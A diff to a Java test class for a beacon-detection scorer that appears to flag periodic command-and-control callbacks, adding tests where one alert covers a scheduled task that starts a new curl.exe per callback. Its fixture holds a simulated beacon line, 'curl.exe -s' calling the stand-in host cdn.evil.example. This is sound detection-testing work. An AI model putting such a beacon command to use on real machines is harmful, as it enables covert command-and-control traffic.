@@ -19,10 +19,24 @@ class BeaconScorerTest {
 
     private static KeyedOneInputStreamOperatorTestHarness<String, Callback, BeaconCandidate> harness(
             EtwcorrConfig.Beacon config) throws Exception {
+        return harness(config, BeaconScorer.Keying.PROCESS);
+    }
+
+    private static KeyedOneInputStreamOperatorTestHarness<String, Callback, BeaconCandidate> harness(
+            EtwcorrConfig.Beacon config, BeaconScorer.Keying keying) throws Exception {
         var harness = new KeyedOneInputStreamOperatorTestHarness<>(
-                new KeyedProcessOperator<>(new BeaconScorer(config)), Callback::scoringKey, Types.STRING);
+                new KeyedProcessOperator<>(new BeaconScorer(config, keying)), keying.keySelector(), Types.STRING);
         harness.open();
         return harness;
+    }
+
+    /** A scheduled task's n-th run: a new curl.exe process per callback. */
+    private static Callback taskRun(int run, long ts) {
+        Callback callback = callback(ts, "C:\\Windows\\System32\\curl.exe");
+        callback.pid = 9000 + 4L * run;
+        callback.entityId = "WS-0042:s" + (20_000 + run);
+        callback.groupCommandLine = CommandLines.normalize("curl.exe -s https://cdn.evil.example/c?r=" + (31_337 * run));
+        return callback;
     }
 
     private static Callback callback(long ts, String executable) {
@@ -153,5 +167,39 @@ class BeaconScorerTest {
         assertThat(candidates(harness)).isEmpty();
         assertThat(harness.numKeyedStateEntries()).isZero();
         harness.close();
+    }
+
+    @Test
+    void aTaskStartingAProcessPerCallbackAlertsOnceAsAGroupNamingTheLatestInstance() throws Exception {
+        EtwcorrConfig.Beacon config = new EtwcorrConfig.Beacon();
+        var perProcess = harness(config);
+        var perGroup = harness(config, BeaconScorer.Keying.PROCESS_GROUP);
+        int runs = 12; // one hour: the detection, no update yet
+        for (int run = 0; run < runs; run++) {
+            Callback callback = taskRun(run, START + run * 300 * SECOND + (run % 3) * 7 * SECOND);
+            perProcess.processElement(new StreamRecord<>(callback));
+            perGroup.processElement(new StreamRecord<>(callback));
+        }
+        assertThat(candidates(perProcess)).as("every instance calls back once").isEmpty();
+        assertThat(candidates(perGroup)).singleElement().satisfies(c -> {
+            assertThat(c.action).isEqualTo(EventField.BEACON_DETECTED);
+            assertThat(c.callbacks).isEqualTo(config.minCallbacks);
+            assertThat(c.instances).isEqualTo(config.minCallbacks);
+            assertThat(c.entityId).as("the latest instance").isEqualTo("WS-0042:s" + (20_000 + config.minCallbacks - 1));
+            assertThat(c.pid).isEqualTo(9000 + 4L * (config.minCallbacks - 1));
+        });
+        perProcess.close();
+        perGroup.close();
+    }
+
+    @Test
+    void oneLongLivedProcessIsNoGroupAlert() throws Exception {
+        EtwcorrConfig.Beacon config = new EtwcorrConfig.Beacon();
+        var perGroup = harness(config, BeaconScorer.Keying.PROCESS_GROUP);
+        for (int i = 0; i < 20; i++) {
+            perGroup.processElement(new StreamRecord<>(callback(START + i * 60 * SECOND, "C:\\x\\rundll32.exe")));
+        }
+        assertThat(candidates(perGroup)).as("the per-process scorer alerts for it").isEmpty();
+        perGroup.close();
     }
 }
